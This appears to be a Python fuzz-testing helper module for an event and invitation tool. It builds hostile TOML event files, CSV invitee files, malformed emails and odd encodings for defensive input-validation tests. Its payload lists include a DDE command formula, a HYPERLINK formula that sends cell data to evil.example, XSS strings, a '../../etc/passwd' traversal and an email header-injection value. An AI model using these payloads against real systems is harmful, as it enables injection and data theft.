"""Hostile input for the fuzz tests: event files, invitee files, form values, and the
settings that keep every run short and the same from one run to the next.

The examples are derandomized, so CI sees the same cases on every run; set
``ROUNDTABLE_FUZZ_SCALE`` (a whole number, default 1) to multiply how many each
test tries when hunting locally.
"""

from __future__ import annotations

import csv
import io
import os
import re
import subprocess
import sys
from collections.abc import Callable
from dataclasses import dataclass
from datetime import UTC, datetime
from typing import Any

from hypothesis import HealthCheck, settings
from hypothesis import strategies as st

from roundtable.errors import InputError
from roundtable.invitations.invitee_file import COLUMNS
from roundtable.invitations.model import InviteeRole
from roundtable.people.model import LANGUAGES
from tests.events.test_event_spec_properties import toml

#: ``roundtable`` as a script runs it, in this interpreter
COMMAND = (sys.executable, "-c", "from roundtable.cli import main; main()")

SCALE = max(1, int(os.environ.get("ROUNDTABLE_FUZZ_SCALE", "1") or "1"))

#: Shared by every fuzz test; each sets its own ``max_examples`` through :func:`scaled`.
#: Function-scoped fixtures (a database, a signed-in client) are shared by the examples
#: of one test on purpose: the state they build up is part of what is fuzzed.
FUZZ = settings(
    deadline=None,
    derandomize=True,
    database=None,
    print_blob=False,
    suppress_health_check=[
        HealthCheck.function_scoped_fixture,
        HealthCheck.too_slow,
        HealthCheck.data_too_large,
        HealthCheck.large_base_example,
        HealthCheck.filter_too_much,
    ],
)


def scaled(examples: int) -> int:
    return examples * SCALE


def one_in(n: int) -> st.SearchStrategy[bool]:
    """True about once in ``n`` draws (``st.integers`` would favour its bounds)."""
    return st.sampled_from([False] * (n - 1) + [True])


def mostly(
    usual: st.SearchStrategy[Any], unusual: st.SearchStrategy[Any], n: int = 3
) -> st.SearchStrategy[Any]:
    """``unusual`` about once in ``n`` draws, ``usual`` otherwise."""
    return one_in(n).flatmap(lambda rare: unusual if rare else usual)


# -- text -----------------------------------------------------------------------------------

#: Characters that can be written to a UTF-8 file (no lone surrogates).
text_chars = st.characters(codec="utf-8")

#: What spreadsheets take for the start of a formula (OWASP's CSV injection list).
FORMULA_STARTERS = ("=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d", "\uff20")
FORMULAS = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "=1+2",
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "=",
    "+",
    "-",
    "@",
    "-@x",
]
HOSTILE_PIECES = [
    "<script>alert(1)</script>",
    "<b>bold</b>",
    "&amp;",
    "\x00",
    "\r\n",
    "\r",
    "\n",
    "\u2028",
    "\u2029",
    "\x85",
    "\x0b",
    "\x1b[31m",
    "\x7f",
    "\u202e",
    "\u200b",
    "\ufeff",
    "\ufffe",
    '"',
    "'",
    "\\",
    '"""',
    "'''",
    "{{ 7*7 }}",
    "%(count)s",
    "${x}",
    "e\u0301",
    "𝕏",
    "中文",
    "عربي",
    "👩🏽‍💼",
    " ",
    "\t",
    "NaN",
]
#: Lengths on either side of the column sizes (40, 64, 100, 200, 254, 300, 320, 400, 500).
EDGE_LENGTHS = [39, 40, 41, 64, 65, 100, 101, 200, 201, 254, 255, 300, 301, 320, 321, 400, 401]
EDGE_LENGTHS += [500, 501, 2000, 2001, 5000]
#: Single-byte and legacy encodings a spreadsheet or an old editor may save in.
ODD_ENCODINGS = ["latin-1", "cp1252", "mac_roman", "koi8_r", "shift_jis", "gb18030"]
FILE_ENCODINGS = ["utf-8-sig", "utf-16", "utf-16-le", "utf-16-be", "utf-32", *ODD_ENCODINGS]


def _without_surrogates(text: str) -> str:
    return text.encode("utf-8", errors="replace").decode("utf-8")


def huge_text() -> st.SearchStrategy[str]:
    """One character, repeated to just below, at or just above a size limit."""
    return st.builds(
        lambda unit, length: unit * length,
        st.sampled_from(["x", "é", "中", "𝕏", "=", " ", "\n"]),
        st.sampled_from(EDGE_LENGTHS),
    )


def odd_decodings() -> st.SearchStrategy[str]:
    """Random bytes read in an encoding they were not written in (mojibake, U+FFFD)."""
    return st.builds(
        lambda data, encoding: _without_surrogates(data.decode(encoding, errors="replace")),
        st.binary(max_size=40),
        st.sampled_from(["utf-8", "utf-16-le", "utf-16-be", *ODD_ENCODINGS]),
    )


def hostile_text(max_size: int = 40) -> st.SearchStrategy[str]:
    """Text as a person, a spreadsheet or an attacker might type it; writable to a file."""
    pieces = st.one_of(st.sampled_from(HOSTILE_PIECES + FORMULAS), st.text(text_chars, max_size=6))
    return st.one_of(
        st.text(text_chars, max_size=max_size),
        st.sampled_from(FORMULAS),
        st.lists(pieces, max_size=6).map("".join),
        st.builds(
            lambda start, rest: start + rest,
            st.sampled_from(FORMULAS),
            st.text(text_chars, max_size=10),
        ),
        huge_text(),
        odd_decodings(),
    )


def encoded(text: str, encoding: str) -> bytes:
    return text.encode(encoding, errors="replace")


# -- email addresses ------------------------------------------------------------------------

#: A domain of 120 labels: short as typed, 965 characters once IDNA-encoded.
LONG_IDNA_EMAIL = "a@" + "ü." * 120 + "com"

BAD_EMAILS = [
    "",
    "no-at-sign",
    "a@@example.org",
    "a@b",
    "a b@example.org",
    "a@example.org\x00",
    "<script>@example.org",
    "a@-example.org",
    "a@example.123",
    "@example.org",
    "a@",
    "a..b@example.org",
    "x" * 65 + "@example.org",
    "a@" + "b" * 64 + ".org",
    "a@example.org\r\nBcc: victim@example.org",
    LONG_IDNA_EMAIL,
]


@st.composite
def emails(draw: st.DrawFn) -> str:
    """Mostly valid addresses (some starting like formulas), some broken ones."""
    kind = draw(st.sampled_from(["valid"] * 6 + ["bad", "hostile"]))
    if kind == "valid":
        prefix = draw(st.sampled_from(["", "", "=", "+", "-", "Ana.", "o'"]))
        domain = draw(
            st.sampled_from(
                ["example.org", "Example.ORG", "bücher.example", "xn--bcher-kva.example"]
            )
        )
        return f"{prefix}guest{draw(st.integers(0, 40))}@{domain}"
    if kind == "bad":
        return draw(st.sampled_from(BAD_EMAILS))
    return draw(hostile_text(30))


# -- event files ----------------------------------------------------------------------------

#: A complete, valid event file, as data; every fuzzed file is this with a few values changed.
EVENT_BASE: dict[str, Any] = {
    "slug": "fuzz-roundtable",
    "title": "The Inter-Ethnic City",
    "format": "High-Level Roundtable",
    "starts": "2027-09-23T13:15:00",
    "ends": "2027-09-23T15:00:00",
    "timezone": "America/New_York",
    "venue": "United Nations Headquarters",
    "room": "Conference Room 6",
    "address": "405 East 42nd Street, New York, NY 10017",
    "webcast_url": "https://webtv.un.org/",
    "capacity": 80,
    "max_guests": 2,
    "rsvp_deadline": "2027-09-20T18:00:00",
    "reminders": ["7d", "1d"],
    "nudge": "3d",
    "followup_after": "2d",
    "description": "Cities **welcome** migrants.",
    "co_organizers": ["IOM", "UNAoC"],
    "organizer": {"name": "IOM New York", "email": "events@iom.example.org"},
    "contact": {
        "name": "Maria Rossi",
        "office": "IOM New York",
        "phone": "+1 212 681 7000",
        "email": "mrossi@iom.example.org",
    },
    "agenda": [
        {
            "time": "13:15",
            "title": "Opening remarks",
            "speakers": ["Director General, IOM"],
            "description": "Welcome.",
        }
    ],
}
EventPath = tuple[str | int, ...]
TABLE_KEYS = ("organizer", "contact", "agenda")
SCALAR_KEYS = tuple(key for key in EVENT_BASE if key not in TABLE_KEYS)
EVENT_PATHS: list[EventPath] = [
    *((key,) for key in SCALAR_KEYS),
    *(("organizer", key) for key in EVENT_BASE["organizer"]),
    *(("contact", key) for key in EVENT_BASE["contact"]),
    *(("agenda", 1, key) for key in EVENT_BASE["agenda"][0]),
]
#: A problem with one key may show up at another that is read with it.
DEPENDENT_FIELDS = {
    "timezone": ("starts", "ends", "rsvp_deadline"),
    "starts": ("ends", "rsvp_deadline"),
    "ends": ("starts",),
    "rsvp_deadline": ("nudge",),
}
#: Removes the key from the file.
DELETE = object()

LOCAL_TIMES = [
    "2026-02-30T10:00:00",
    "2026-13-01T10:00:00",
    "2026-00-10T10:00:00",
    "2026-09-24T24:00:00",
    "2026-09-24T23:60:00",
    "2026-09-24T23:59:60",
    "0000-01-01T00:00:00",
    "9999-12-31T23:59:59",
    "1969-12-31T23:59:59",
    "2101-01-01T00:00:00",
    "2027-03-14T02:30:00",  # skipped in New York
    "2027-03-28T02:30:00",  # skipped in Zurich
    "2011-12-30T12:00:00",  # the day Samoa skipped
    "2027-11-07T01:30:00",  # shown twice in New York
    "2027-09-23T13:15:00Z",
    "2027-09-23T13:15:00+02:00",
    "2027-09-23 13:15",
    "2027-09-23",
    "13:15",
    "23/09/2027 13:15",
    "2027-09-23T13:15:00.5",
    "２０２７-09-23T13:15:00",
    "",
    " ",
]
ZONES = [
    "Mars/Olympus",
    "america/new_york",
    "America/New York",
    "UTC",
    "Etc/GMT+14",
    "EST5EDT",
    "localtime",
    "posixrules",
    "../../etc/passwd",
    "/etc/localtime",
    "America/New_York\x00",
    "Europe/Zurich ",
    "Asia/Kathmandu",
    "Pacific/Apia",
    "Pacific/Kiritimati",
    "Australia/Lord_Howe",
    "Factory",
    "",
    "x" * 65,
]
DURATIONS = ["7d", "0d", "-1d", "1.5d", "7", "d", "7 d", "7D", "90m", "366d", "367d"]
DURATIONS += ["9" * 13 + "d", "１d", "1d12h", ""]
WHOLE_NUMBERS = [0, -1, 1, 80, 100, 101, 10**6, 10**6 + 1, 2**63 - 1, -(2**63)]


def toml_values() -> st.SearchStrategy[Any]:
    """Any TOML value, of any type, some of them hostile text."""
    scalars = st.one_of(
        hostile_text(),
        st.integers(),
        st.floats(),
        st.booleans(),
        st.datetimes(min_value=datetime(1, 1, 1), max_value=datetime(9999, 12, 31)),
        st.datetimes(timezones=st.just(UTC)),
        st.dates(),
        st.times(),
    )
    return st.recursive(
        scalars,
        lambda inner: (
            st.lists(inner, max_size=3)
            | st.dictionaries(st.sampled_from(["name", "x", "time"]), inner, max_size=2)
        ),
        max_leaves=5,
    )


def value_for(path: EventPath) -> st.SearchStrategy[Any]:
    """A hostile value for the key at ``path``: wrong types, and wrong values of its type."""
    key = path[-1]
    anything = st.one_of(toml_values(), st.just(DELETE))
    if key in ("starts", "ends", "rsvp_deadline"):
        specific: st.SearchStrategy[Any] = st.one_of(
            st.sampled_from(LOCAL_TIMES),
            st.datetimes(min_value=datetime(1960, 1, 1), max_value=datetime(2110, 1, 1)).map(
                lambda moment: moment.replace(microsecond=0).isoformat()
            ),
        )
    elif key == "timezone":
        specific = st.sampled_from(ZONES)
    elif key in ("nudge", "followup_after"):
        specific = st.sampled_from(DURATIONS)
    elif key == "reminders":
        specific = st.lists(st.sampled_from(DURATIONS), max_size=4)
    elif key in ("capacity", "max_guests"):
        specific = st.sampled_from(WHOLE_NUMBERS)
    elif key in ("co_organizers", "speakers"):
        specific = st.lists(hostile_text(), max_size=3)
    elif key == "email":
        specific = emails()
    elif key == "slug":
        specific = st.sampled_from(["UPPER", "with space", "-", "a" * 100, "a" * 101, "é", ""])
    elif key == "time":
        specific = st.sampled_from(["9:30", "24:00", "13:15:00", "23:59", "noon", ""])
    elif key == "webcast_url":
        specific = st.sampled_from(
            ["javascript:alert(1)", "https://", "ftp://x.org", "https://x.org/a b", "http://[::1"]
        )
    else:
        specific = hostile_text()
    return st.one_of(specific, specific, anything)


def _string_in_toml(value: str, style: str) -> str:
    """``value`` as a TOML string: escaped, literal, or raw in a multi-line string.

    The literal and raw forms may not be valid TOML for every value: that is the point.
    """
    if style == "literal":
        return "'" + value + "'"
    if style == "multiline":
        return '"""' + value + '"""'
    return toml(value)


@dataclass(frozen=True)
class EventFile:
    """A fuzzed event file: its text, and where each key of it was written."""

    text: str
    #: field name (``title``, ``organizer.email``, ``agenda[1].time``) → line, from 1
    lines: dict[str, int]
    #: the fields whose values were changed; problems may only name these or their dependents
    changed: tuple[str, ...]

    def expected_line(self, field_name: str) -> int | None:
        """The line a problem with ``field_name`` must name: its own, or its nearest parent's."""
        name = field_name
        while name:
            if name in self.lines:
                return self.lines[name]
            name = re.sub(r"(\.[^.\[]*|\[\d+\])$", "", name) if re.search(r"[.\[]", name) else ""
        return None

    def may_name(self, field_name: str) -> bool:
        allowed = set(self.changed)
        for name in self.changed:
            allowed.update(DEPENDENT_FIELDS.get(name, ()))
        return any(
            field_name == name or field_name.startswith((name + ".", name + "["))
            for name in allowed
        )


def render_event(document: dict[str, Any], styles: dict[str, str] | None = None) -> EventFile:
    """Write ``document`` as an event file, noting the line of every key."""
    styles = styles or {}
    out: list[str] = []
    lines: dict[str, int] = {}

    def write(name: str, key: str, value: Any) -> None:
        lines[name] = sum(part.count("\n") for part in out) + 1
        if isinstance(value, str):
            written = _string_in_toml(value, styles.get(name, "basic"))
        else:
            written = toml(value)
        out.append(f"{key} = {written}\n")

    def header(name: str, text: str) -> None:
        lines[name] = sum(part.count("\n") for part in out) + 2
        out.append(f"\n{text}\n")

    for key, value in document.items():
        if key not in TABLE_KEYS:
            write(key, key, value)
    for table in ("organizer", "contact"):
        if table in document:
            header(table, f"[{table}]")
            for key, value in document[table].items():
                write(f"{table}.{key}", key, value)
    for position, block in enumerate(document.get("agenda", []), start=1):
        header(f"agenda[{position}]", "[[agenda]]")
        if position == 1:
            lines["agenda"] = lines["agenda[1]"]
        for key, value in block.items():
            write(f"agenda[{position}].{key}", key, value)
    return EventFile(text="".join(out), lines=lines, changed=())


def _field_name(path: EventPath) -> str:
    name = ""
    for part in path:
        name += f"[{part}]" if isinstance(part, int) else (f".{part}" if name else part)
    return name


def _set(document: dict[str, Any], path: EventPath, value: Any) -> None:
    target: Any = document
    for part in path[:-1]:
        target = target[part - 1] if isinstance(part, int) else target[part]
    if value is DELETE:
        target.pop(path[-1], None)
    else:
        target[path[-1]] = value


def _copy(document: Any) -> Any:
    if isinstance(document, dict):
        return {key: _copy(value) for key, value in document.items()}
    if isinstance(document, list):
        return [_copy(value) for value in document]
    return document


@st.composite
def event_files(draw: st.DrawFn, slug: str | None = None) -> EventFile:
    """The valid sample with one to three values replaced by hostile ones (or removed).

    With ``slug``, the file always describes that event (for an edit form).
    """
    document = _copy(EVENT_BASE)
    if slug is not None:
        document["slug"] = slug
    candidates = [path for path in EVENT_PATHS if slug is None or path != ("slug",)]
    paths = draw(st.lists(st.sampled_from(candidates), min_size=1, max_size=3, unique=True))
    styles: dict[str, str] = {}
    for path in paths:
        _set(document, path, draw(value_for(path)))
        styles[_field_name(path)] = draw(
            st.sampled_from(["basic", "basic", "literal", "multiline"])
        )
    if draw(one_in(10)):  # a key that does not belong
        key = draw(st.sampled_from(["titel", "start", "Slug", "capacity2", "x"]))
        document[key] = draw(toml_values())
        paths.append((key,))
    rendered = render_event(document, styles)
    return EventFile(
        text=rendered.text, lines=rendered.lines, changed=tuple(_field_name(p) for p in paths)
    )


TOML_TOKENS = [
    "slug = ",
    'title = "',
    "starts = 2026-02-30T25:00:00",
    "starts = 1979-05-27T07:32:00Z",
    "[organizer]",
    "[[agenda]]",
    "[agenda]",
    "organizer.name = 1",
    '"',
    "'",
    '"""',
    "'''",
    "[",
    "]",
    "{",
    "}",
    "=",
    ",",
    "#",
    "\n",
    "\r\n",
    "\r",
    "\\",
    "\\u0000",
    "\\uD800",
    "inf",
    "nan",
    "0x7f",
    "1e999",
    "true",
    "\x00",
    "\ufeff",
]


def toml_noise() -> st.SearchStrategy[str]:
    """Random text that looks a little, or a lot, like TOML."""
    token = st.one_of(st.sampled_from(TOML_TOKENS), st.text(text_chars, max_size=8))
    return st.one_of(
        st.text(text_chars, max_size=200),
        st.lists(token, max_size=30).map("".join),
        st.builds(
            lambda base, noise: base + noise,
            st.just(render_event(EVENT_BASE).text),
            st.lists(token, max_size=5).map("".join),
        ),
    )


# -- invitee files --------------------------------------------------------------------------


@st.composite
def invitee_cells(draw: st.DrawFn, column: str) -> str:
    """A cell: mostly what people type, often a formula, sometimes anything at all."""
    if column == "email":
        return draw(emails())
    if column == "role":
        return draw(st.sampled_from([*InviteeRole.ALL, "Panelist", "SPEAKER", "", "chair", "=1+1"]))
    if column == "language":
        return draw(st.sampled_from([*LANGUAGES, "FR", "", "pt", "en-US"]))
    if column == "timezone":
        return draw(st.sampled_from(["", "Europe/Paris", "america/new_york", *ZONES]))
    kind = draw(st.sampled_from(["plain"] * 5 + ["formula"] * 2 + ["hostile"]))
    if kind == "plain":
        return draw(st.sampled_from(["Ana", "Silva", "Dr.", "H.E.", "IOM", "Head of Unit", ""]))
    if kind == "formula":
        return draw(
            st.builds(
                lambda start, rest: start + rest,
                st.sampled_from(FORMULAS),
                st.text(text_chars, max_size=8),
            )
        )
    return draw(hostile_text())


@st.composite
def invitee_headers(draw: st.DrawFn) -> list[str]:
    names = draw(st.sampled_from([["name"], ["first_name", "last_name"], ["name", "first_name"]]))
    optional = draw(st.lists(st.sampled_from(COLUMNS[4:]), unique=True, max_size=6))
    columns = ["email", *names, *optional]
    if draw(one_in(10)):
        columns.remove("email")
    if draw(one_in(10)):
        columns.append(draw(st.sampled_from(["mobile", "email", "notes", "E-Mail", ""])))
    columns = list(draw(st.permutations(columns)))
    return [
        draw(
            st.sampled_from(
                [column, column, column.upper(), f" {column} ", column.replace("_", " ")]
            )
        )
        for column in columns
    ]


@st.composite
def invitee_files(draw: st.DrawFn) -> bytes:
    """An invitee file: mostly a table with hostile cells, sometimes random or damaged bytes."""
    if draw(one_in(8)):
        return draw(st.binary(max_size=300))
    header = draw(invitee_headers())
    keys = [re.sub(r"[\s-]+", "_", label.strip().lower()) for label in header]
    records = [[draw(invitee_cells(key)) for key in keys] for _ in range(draw(st.integers(0, 5)))]
    if records and draw(st.booleans()):  # the same address again, the same or not quite
        again = list(draw(st.sampled_from(records)))
        if "email" in keys:
            position = keys.index("email")
            again[position] = draw(st.sampled_from([str.upper, str.lower, str.strip]))(
                again[position]
            )
        if draw(st.booleans()) and len(again) > 1:
            again[-1] = draw(invitee_cells(keys[-1]))
        records.insert(draw(st.integers(0, len(records))), again)
    out = io.StringIO()
    writer = csv.writer(
        out,
        delimiter=draw(st.sampled_from([",", ",", ";", "\t"])),
        quoting=draw(st.sampled_from([csv.QUOTE_MINIMAL, csv.QUOTE_ALL])),
        lineterminator=draw(st.sampled_from(["\r\n", "\n", "\r"])),
    )
    writer.writerow(header)
    writer.writerows(records)
    text = out.getvalue()
    if draw(one_in(6)):  # damage it somewhere
        at = draw(st.integers(0, len(text)))
        text = (
            text[:at]
            + draw(st.sampled_from(['"', "\x00", "\r", "\n", ",", "\ufeff", "\\"]))
            + text[at:]
        )
    encoding = draw(st.sampled_from(["utf-8"] * 12 + FILE_ENCODINGS))
    return encoded(text, encoding)


# -- checking what came back ----------------------------------------------------------------

#: Problems about a whole file, which name no field (nor sometimes a line).
FILE_LEVEL = re.compile(
    r"is not valid TOML|is not UTF-8|is larger than|nested too deeply|no such file|"
    r"the file is not UTF-8|cannot be read as CSV|the file is empty|cannot be read"
)


def assert_names_file_line_and_field(
    error: InputError, source: str, last_line: int, *, fields: bool = True
) -> None:
    """Every problem names ``source``, a line within the file (or none), and its field
    unless it is about the file as a whole."""
    assert error.problems, "an InputError must carry at least one problem"
    assert source in str(error)
    for problem in error.problems:
        assert problem.source == source, problem
        assert problem.message.strip(), problem
        assert problem.line is None or 1 <= problem.line <= last_line, (problem, last_line)
        if fields and not FILE_LEVEL.search(problem.message):
            assert problem.field, f"no field named: {problem}"


def lines_in(data: bytes) -> int:
    """How many lines a file has, however they end; the most a problem may point at."""
    return len(re.findall(rb"\r\n|\r|\n", data)) + 1


def assert_cli_refusal_is_clean(result: Any, prefix: str, *, unchanged: Callable[[], bool]) -> None:
    """A CLI run on a fuzzed file: success, or exit 1 with every error line naming the file,
    no traceback, and nothing written (``unchanged`` says whether the database is as before)."""
    assert result.exit_code in (0, 1), result.output
    assert not isinstance(result.exception, Exception) or isinstance(result.exception, SystemExit)
    if result.exit_code == 1:
        assert unchanged(), "a refused file changed the database"
        assert "Traceback" not in result.output
        for line in result.stderr.strip().splitlines():
            assert line.startswith(prefix), line


def run_command(*arguments: str) -> subprocess.CompletedProcess[str]:
    """The ``roundtable`` command run as a script runs it: its own process, output captured."""
    return subprocess.run(
        [*COMMAND, *arguments], capture_output=True, text=True, timeout=120, check=False
    )
